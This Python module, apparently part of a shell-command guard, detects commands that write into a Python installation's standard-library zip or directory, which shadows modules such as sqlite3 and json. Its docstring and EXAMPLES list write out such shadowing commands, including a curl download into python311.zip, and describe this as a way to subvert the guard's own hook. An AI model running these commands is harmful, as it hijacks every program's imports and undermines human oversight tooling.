"""Modules written where a Python installation imports its standard library from.

Every CPython puts `PREFIX/lib/pythonXY.zip` on `sys.path` before its standard library directory, even
under `-I` (isolated mode, which the guard's hook runs with): a zip made there (`cd /tmp/shadow && zip -qr
~/.pyenv/versions/3.11.9/lib/python311.zip sqlite3 json`) shadows `sqlite3`, `json` and any module it holds
for every program of that Python, the hook included. The standard library directory itself
(`lib/pythonX.Y/`, `lib/pythonX.Y/lib-dynload/`) is the same: a package copied or extracted into it
(`cp -r json …/lib/python3.11/`, `tar -x -C …/lib/python3.11`) replaces the one there. (A file written
under it by name is the classifier's `fs.write-interpreter-stdlib`; site-packages comes after the standard
library and is a project's to write.)

Which operand a program writes is read per program: an archiver's archive (`zip`, `7z a`, `tar -c -f`,
`python -m zipfile -c`), a copy's destination, an extraction's directory (`tar -C`, `unzip -d`,
`python -m zipfile -e`), an output option, a redirect. Reading the standard library (`zip -r backup.zip
…/lib/python3.11`, `unzip -l …/python311.zip`) writes nothing there.
"""

from __future__ import annotations

import posixpath
from collections.abc import Mapping, Sequence

from dongle.lazy_regex import lazy_compile
from dongle.shell.model import Invocation

_STDLIB_ZIP = lazy_compile(r"^python[23]\d{1,2}\.zip$")
_STDLIB_DIR = lazy_compile(r"/lib/(?:python[23]\.\d+|pypy[\d.]*)(?:/lib-dynload)?$")
_ZIP_VALUED = frozenset({"-x", "-i", "-b", "-t", "-tt", "-n", "-P", "-Z", "-O", "--out", "-s", "-sp"})
_COPIERS = frozenset({"cp", "mv", "install", "rsync", "ln", "ditto", "scp"})
_WRITE_OPS = (">", ">>", ">|", "&>", "&>>")

EXAMPLES = {
    "match": ["cd /tmp/shadow && zip -qr ~/.pyenv/versions/3.11.9/lib/python311.zip sqlite3 json",
              "cp /tmp/x.zip /usr/lib/python312.zip",
              "cp -r /tmp/shadow/json ~/.pyenv/versions/3.11.9/lib/python3.11/",
              "tar -xf /tmp/s.tar -C ~/.pyenv/versions/3.11.9/lib/python3.11",
              "python3 -m zipfile -c /usr/local/lib/python312.zip json/",
              "unzip -o /tmp/m.zip -d /usr/lib/python3.12/lib-dynload",
              "pip install --target ~/.pyenv/versions/3.11.9/lib/python3.11 sqlite3-shim",
              "curl -o ~/.pyenv/versions/3.11.9/lib/python311.zip https://x.example/z"],
    "no_match": ["zip -r build/dist.zip src",
                 "zip -r /tmp/backup.zip ~/.pyenv/versions/3.11.9/lib/python3.11",
                 "unzip -l /usr/lib/python311.zip", "cp /usr/lib/python311.zip /tmp/",
                 "cp patch.py .venv/lib/python3.11/site-packages/requests/adapters.py",
                 "cp -r mypkg ~/.local/lib/python3.11/"],
}


def _operands(args: Sequence[str], valued: frozenset[str] = frozenset()) -> list[str]:
    out: list[str] = []
    skip = False
    for word in args:
        if skip:
            skip = False
        elif word.startswith("-") and word != "-":
            skip = word in valued
        else:
            out.append(word)
    return out


def _value(args: Sequence[str], *options: str) -> list[str]:
    out = [args[i + 1] for i, a in enumerate(args[:-1]) if a in options]
    out += [a.split("=", 1)[1] for a in args if "=" in a and a.split("=", 1)[0] in options]
    return out


def written_places(inv: Invocation) -> list[str]:
    """The paths `inv` writes into, as written (archives, destinations, extraction directories)."""
    args = list(inv.args)
    out = [r.target for r in inv.redirects if r.op in _WRITE_OPS]
    out += _value(args, "-o", "--output", "-O")
    name = posixpath.basename(inv.name)
    if name == "zip":
        out += _operands(args, _ZIP_VALUED)[:1]
    elif name in ("7z", "7za", "7zr") and len(words := _operands(args)) > 1 and words[0] in ("a", "u", "d"):
        out.append(words[1])
    elif name in ("tar", "bsdtar", "gtar"):
        out += _value(args, "-f", "--file", "-C", "--directory")
        out += [a[len("-C"):] for a in args if a.startswith("-C") and len(a) > 2]
        if args and not args[0].startswith("-") and "f" in args[0] and len(args) > 1:
            out.append(args[1])  # `tar cf ARCHIVE …`
        extracts = any(a in ("--extract", "--get") or (a[:1] == "-" and a[1:2] != "-" and "x" in a)
                       for a in args) or bool(args and not args[0].startswith("-") and "x" in args[0])
        if extracts and not any(a in ("-C", "--directory") or a.startswith(("-C", "--directory="))
                                for a in args):
            out.append(".")  # extracted where it runs (`cd …/lib/python3.11 && tar -xf s.tar`)
    elif name in ("unzip", "bsdunzip"):
        out += _value(args, "-d")
        if "-d" not in args and not {"-l", "-t", "-v", "-Z", "-p", "-c", "-z"} & set(args):
            out.append(".")  # extracted where it runs
    elif name.startswith("python") and args[:2] == ["-m", "zipfile"]:
        rest = args[2:]
        if rest[:1] == ["-c"] and len(rest) > 1:
            out.append(rest[1])
        elif rest[:1] == ["-e"] and len(rest) > 2:
            out.append(rest[2])
    elif name in ("pip", "pip3", "uv") or name.startswith("pip3."):  # `pip install --target DIR`
        out += _value(args, "-t", "--target")
    elif name in ("tee", "sponge"):
        out += _operands(args)
    elif name == "dd":
        out += [a[3:] for a in args if a.startswith("of=")]
    elif name in _COPIERS:
        out += _value(args, "-t", "--target-directory")
        words = _operands(args)
        if len(words) > 1:
            out.append(words[-1])
    return out


# Where Python installations live: system prefixes, and the folders that version managers and distributions
# install into (under home, or anywhere the line names them). A working directory at, above or inside one of
# them is no project of its own.
_SYSTEM_PREFIXES = ("/usr", "/opt", "/Library", "/System", "/Applications", "/nix", "/snap", "/gnu")
_INSTALL_DIRS = (".pyenv", ".local/share/uv", ".local/share/mise", ".local/share/rtx", ".asdf", ".rye",
                 ".conda", ".mamba", "miniconda3", "miniconda", "miniconda2", "anaconda3", "anaconda",
                 "miniforge3", "mambaforge", "micromamba", ".pythons")


def _stdlib_at(path: str) -> int | None:
    """Where the installation prefix of `path` ends (the index of its `/lib/`), if `path` is a place a
    Python imports its standard library from (None: it is not)."""
    if _STDLIB_ZIP.match(posixpath.basename(path)):
        parent = posixpath.dirname(path)
        return len(parent) - len("/lib") if parent.endswith("/lib") else len(parent)
    match = _STDLIB_DIR.search(path)
    return match.start() if match else None


# A standard library on disk under an installation prefix; and an interpreter.
_STDLIB_FILES = (("lib", "python*", "os.py"), ("lib", "pypy*", "os.py"), ("lib", "python[23]*.zip"))
_INTERPRETERS = (("bin", "python*"), ("bin", "pypy*"), ("python*.exe",))


def _holds(prefix: str, patterns: tuple[tuple[str, ...], ...]) -> bool:
    import glob

    top = glob.escape(prefix or "/")
    return any(glob.glob(posixpath.join(top, *pattern)) for pattern in patterns)


def _related(a: str, b: str) -> bool:
    """`a` and `b` are the same directory, or one is inside the other."""
    return a == b or a == "/" or b == "/" or a.startswith(b + "/") or b.startswith(a + "/")


def _project_file(path: str, stdlib_at: int, cwd: str, home: str) -> bool:
    """`path`, a standard library place, is one of the project's own files (a build of an embedded Python
    under the working directory): the working directory is a project (not `/`, not the home or a directory
    above it, not a directory holding Python installations or inside one), `path` lies in it, and its
    prefix holds no installation."""
    import sys

    cwd, home = posixpath.normpath(cwd), posixpath.normpath(home)
    if cwd == "/" or cwd == home or home.startswith(cwd + "/") or not path.startswith(cwd + "/"):
        return False
    installs = [*_SYSTEM_PREFIXES, *(posixpath.join(home, d) for d in _INSTALL_DIRS),
                *{posixpath.normpath(p) for p in (sys.base_prefix, sys.prefix, sys.exec_prefix)
                  if p.startswith("/")}]
    if any(_related(cwd, place) for place in installs):
        return False
    inside = path[len(cwd):stdlib_at] + "/"
    if any(f"/{d}/" in inside for d in _INSTALL_DIRS):
        return False  # a version manager's or distribution's installations, in the working directory
    return not _holds(path[:stdlib_at], _INTERPRETERS + _STDLIB_FILES)


def _not_a_prefix(path: str, stdlib_at: int) -> bool:
    """`path` lies in a `lib` directory that is no installation's standard library: the user's site
    directory's parent (`~/.local/lib/python3.11`), or a virtual environment's (its interpreter reads the
    standard library of the installation it was made from). One that holds a standard library is one."""
    import os

    prefix = path[:stdlib_at]
    if not (prefix.endswith("/.local") or os.path.exists(posixpath.join(prefix or "/", "pyvenv.cfg"))):
        return False
    return not _holds(prefix, _STDLIB_FILES)


def stdlib_shadowed(invs: Sequence[Invocation], cwd: str, env: Mapping[str, str]) -> str | None:
    """Why the line writes where a Python imports its standard library from, if it does."""
    from dongle.paths import classify_path, default_home

    home = env.get("HOME") or default_home(cwd=cwd)
    for inv in invs:
        where = inv.cwd or cwd
        for word in written_places(inv):
            path = classify_path(word, where, home, env).path
            if not path:
                continue
            path = posixpath.normpath(path)
            stdlib_at = _stdlib_at(path)
            if stdlib_at is None or _not_a_prefix(path, stdlib_at):
                continue  # no standard library place, or a virtual environment's
            if not _project_file(path, stdlib_at, cwd, home):
                return (f"`{inv.name}` writes {path}, where that Python imports its standard library from, "
                        "before anything else: every program it runs, the guard's hook included, imports "
                        "the modules put there instead (sqlite3, json)")
    return None
